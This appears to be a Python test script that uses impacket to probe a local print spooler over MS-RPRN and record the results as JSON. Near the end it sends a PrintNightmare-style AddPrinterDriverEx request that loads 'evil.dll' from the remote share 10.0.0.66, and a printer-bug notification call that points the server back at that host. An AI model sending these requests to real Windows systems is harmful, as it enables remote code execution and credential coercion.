# Drives \pipe\spoolss with impacket's MS-RPRN client and prints one JSON object of results.
# Usage: impacket-rprn.py PORT USER PASSWORD
import json
import sys

from impacket.dcerpc.v5 import rprn, transport
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import DCERPCException

port, user, password = int(sys.argv[1]), sys.argv[2], sys.argv[3]
out = {}


def code_of(e):
    # A fault carries no code in impacket, only its name in the message.
    code = e.get_error_code() if hasattr(e, 'get_error_code') else None
    return code if code is not None else str(e)


binding = r'ncacn_np:127.0.0.1[\pipe\spoolss]'
t = transport.DCERPCTransportFactory(binding)
t.set_dport(port)
t.set_credentials(user, password, '', '', '')
dce = t.get_dce_rpc()
dce.connect()
dce.bind(rprn.MSRPC_UUID_RPRN)
out['bind'] = 'ok'

for level in (1, 2):
    r = rprn.hRpcEnumPrinters(dce, rprn.PRINTER_ENUM_LOCAL, NULL, level)
    buf = b''.join(r['pPrinterEnum']) if isinstance(r['pPrinterEnum'], list) else bytes(r['pPrinterEnum'])
    out['enumprinters%d' % level] = {
        'needed': r['pcbNeeded'],
        'returned': r['pcReturned'],
        'len': len(buf),
        'hasHpColor': 'HpColor'.encode('utf-16-le') in buf,
        'hex': buf.hex(),
    }

client = rprn.SPLCLIENT_CONTAINER()
client['Level'] = 1
client['ClientInfo']['tag'] = 1
info = rprn.SPLCLIENT_INFO_1()
info['dwSize'] = 28
info['pMachineName'] = 'PPCLIENT\x00'
info['pUserName'] = user + '\x00'
info['dwBuildNum'] = 19045
info['dwMajorVersion'] = 3
info['dwMinorVersion'] = 0
info['wProcessorArchitecture'] = 9
client['ClientInfo']['pClientInfo1'] = info
r = rprn.hRpcOpenPrinterEx(dce, '\\\\127.0.0.1\\HpColor\x00', accessRequired=rprn.PRINTER_ACCESS_USE, pClientInfo=client)
handle = r['pHandle']
out['openprinterex'] = {'status': r['ErrorCode'], 'handleLen': len(bytes(handle))}
r = rprn.hRpcClosePrinter(dce, handle)
out['closeprinter'] = {'status': r['ErrorCode'], 'handle': bytes(r['phPrinter']).hex()}

# The closed handle is gone: the runtime faults the call.
try:
    rprn.hRpcClosePrinter(dce, handle)
    out['closeAgain'] = 'ok'
except DCERPCException as e:
    out['closeAgain'] = code_of(e)

r = rprn.hRpcEnumPrinterDrivers(dce, NULL, 'Windows x64\x00', 3)
buf = b''.join(r['pDrivers']) if isinstance(r['pDrivers'], list) else bytes(r['pDrivers'])
out['enumdrivers'] = {'returned': r['pcReturned'], 'hasUnidrv': 'unidrv.dll'.encode('utf-16-le') in buf.lower()}

r = rprn.hRpcGetPrinterDriverDirectory(dce, '\\\\127.0.0.1\x00', 'Windows x64\x00', 1)
buf = b''.join(r['pDriverDirectory']) if isinstance(r['pDriverDirectory'], list) else bytes(r['pDriverDirectory'])
out['driverdir'] = buf.decode('utf-16-le').split('\x00')[0]

container = rprn.DRIVER_CONTAINER()
container['Level'] = 2
container['DriverInfo']['tag'] = 2
d = rprn.DRIVER_INFO_2()
d['cVersion'] = 3
d['pName'] = 'Evil\x00'
d['pEnvironment'] = 'Windows x64\x00'
d['pDriverPath'] = 'C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL\x00'
d['pDataFile'] = '\\\\10.0.0.66\\share\\evil.dll\x00'
d['pConfigFile'] = 'C:\\Windows\\System32\\kernelbase.dll\x00'
container['DriverInfo']['Level2'] = d
try:
    r = rprn.hRpcAddPrinterDriverEx(dce, '\\\\127.0.0.1\x00', container, rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000)
    out['adddriver'] = r['ErrorCode']
except DCERPCException as e:
    out['adddriver'] = code_of(e)

r = rprn.hRpcOpenPrinter(dce, '\\\\127.0.0.1\\HpColor\x00', accessRequired=rprn.PRINTER_ACCESS_USE)
h = r['pHandle']
try:
    rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(dce, h, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine='\\\\10.0.0.66\x00')
    out['notify'] = 0
except DCERPCException as e:
    out['notify'] = code_of(e)
rprn.hRpcClosePrinter(dce, h)
dce.disconnect()
print(json.dumps(out))
